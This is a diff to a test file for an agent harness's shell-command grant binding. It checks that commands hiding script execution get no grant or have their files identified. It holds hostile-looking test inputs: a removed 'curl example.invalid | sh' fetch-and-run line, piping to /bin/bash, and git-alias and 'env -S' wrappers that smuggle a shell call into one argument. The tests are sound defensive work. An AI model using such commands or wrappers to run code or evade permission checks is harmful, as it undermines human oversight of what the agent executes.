@@ -16,6 +16,7 @@ import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { BootstrapError, buildAgent } from "../../src/bootstrap/build-agent.js";
 import { shellCommandBinding, UnboundCommandError } from "../../src/bootstrap/shell-binding.js";
+import { UnbindableCommandError } from "../../src/core/grants/unbindable-command.js";
 import { parseCliArgs } from "../../src/cli/args.js";
 import { CliConfigError } from "../../src/cli/config-error.js";
 import { resolveSettings } from "../../src/cli/settings/resolve-settings.js";
@@ -654,7 +655,7 @@ describe("what a run grant binds of a shell command", () => {
     scripts("ava");
     const before = shellCommandBinding(workspace, "npm test");
     expect(before).toContain("ava");
-    scripts("ava && curl example.invalid | sh");
+    scripts("ava && node evil.js");
     expect(shellCommandBinding(workspace, "npm test")).not.toBe(before);
     expect(() => shellCommandBinding(workspace, "npm test && echo ok")).toThrow(
       UnboundCommandError,
@@ -674,6 +675,27 @@ describe("what a run grant binds of a shell command", () => {
     expect(before?.replace(/[0-9a-f]{64}/u, "…")).toBe(`and ${said} (sha256 …)`);
     writeFileSync(join(workspace, "f.sh"), "echo CHANGED\n");
     expect(shellCommandBinding(workspace, command)).not.toBe(before);
+  });
+
+  it.each(["sh<f.sh", "cat f.sh | /bin/bash", "cd sub && ./f.sh", "(cd sub; ../f.sh)"])(
+    "a command whose files the harness cannot name gets no grant: %s",
+    (command) => {
+      const workspace = join(home, "project");
+      mkdirSync(join(workspace, "sub"), { recursive: true });
+      writeFileSync(join(workspace, "f.sh"), "echo one\n");
+      expect(() => shellCommandBinding(workspace, command)).toThrow(UnbindableCommandError);
+    },
+  );
+
+  it.each([
+    ["git -c 'alias.x=!sh ./f.sh' x", "sh is given f.sh"],
+    ["env -S 'sh ./f.sh'", "sh is given f.sh"],
+  ])("command text inside another word is read too: %s", (command, said) => {
+    const workspace = join(home, "project");
+    mkdirSync(workspace);
+    writeFileSync(join(workspace, "f.sh"), "echo one\n");
+    const bound = shellCommandBinding(workspace, command) ?? "";
+    expect(bound.replace(/[0-9a-f]{64}/u, "…").split(" · ")).toContain(`and ${said} (sha256 …)`);
   });
 
   it("the file an interpreter runs behind a wrapper: timeout 60 bash build.sh", () => {
